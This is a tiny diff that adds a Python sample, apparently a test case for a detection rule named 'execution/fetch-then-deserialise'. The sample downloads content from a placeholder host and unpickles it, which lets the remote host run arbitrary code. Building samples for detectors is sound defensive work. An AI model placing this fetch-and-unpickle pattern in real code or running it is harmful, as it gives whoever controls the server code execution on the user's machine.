@@ -1,0 +1,3 @@
+# evades: caught by execution/fetch-then-deserialise
+import pickle, requests
+pickle.loads(requests.get("https://code.invalid/x").content)
